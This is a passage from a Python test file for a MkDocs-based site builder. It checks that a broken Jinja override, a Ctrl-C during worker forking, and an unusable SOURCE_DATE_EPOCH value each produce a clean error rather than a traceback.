    """overrides/ is the one place a partnership edits Jinja: a slip there was a
    traceback from deep in MkDocs, after the output folder was touched."""
    project = make_project(tmp_path / "p")
    assert build(project).returncode == 0
    before = _files(project / "site")
    main = project / "overrides/main.html"
    lines = main.read_text(encoding="utf-8").splitlines(keepends=True)
    assert lines[4].startswith("{% block site_meta %}")
    lines[4] = lines[4].rstrip("\n") + "{% if %}\n"
    main.write_text("".join(lines), encoding="utf-8")
    result = build(project)
    assert result.returncode == 1 and "Traceback" not in result.output, result.output
    assert "overrides/main.html:5: is not a template the theme can read" in result.output
    assert _files(project / "site") == before


_CTRL_C_WHILE_FORKING = """
import os, sys, time
sys.path.insert(0, sys.argv[1])
from macros.content.workers import ForkedMap
# Each new worker lingers in Python's fork handlers, where Ctrl-C once broke
# into it before it could ignore Ctrl-C (a traceback, now and then, in a build).
os.register_at_fork(after_in_child=lambda: time.sleep(0.5))
print("forking", flush=True)
try:
    print(len(ForkedMap(abs, list(range(400)), 2, min_items=1).get()), flush=True)
except KeyboardInterrupt:
    print("interrupted", flush=True)
"""


def test_ctrl_c_while_workers_are_being_forked_reaches_only_this_process():
    process = subprocess.Popen([sys.executable, "-c", _CTRL_C_WHILE_FORKING, str(Path(__file__).parent.parent)],
                               stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, start_new_session=True)
    assert process.stdout.readline() == "forking\n"
    time.sleep(0.2)  # the first worker is in its fork handler
    os.killpg(process.pid, signal.SIGINT)
    output, errors = process.communicate(timeout=60)
    assert "Traceback" not in errors and "KeyboardInterrupt" not in errors, errors
    assert output == "interrupted\n" and process.returncode == 0


@pytest.mark.parametrize("epoch", ["2026-11-20", "99999999999999999999", "soon"])
def test_an_unusable_build_date_in_the_environment_is_a_problem_not_a_traceback(tmp_path, epoch):
    project = make_project(tmp_path / "p")
    result = build(project, env={"SOURCE_DATE_EPOCH": epoch})
    assert result.returncode == 1
    assert "Traceback" not in result.output
    assert f'SOURCE_DATE_EPOCH (environment variable): is "{epoch}", which is not a date' in result.output, result.output[-1500:]
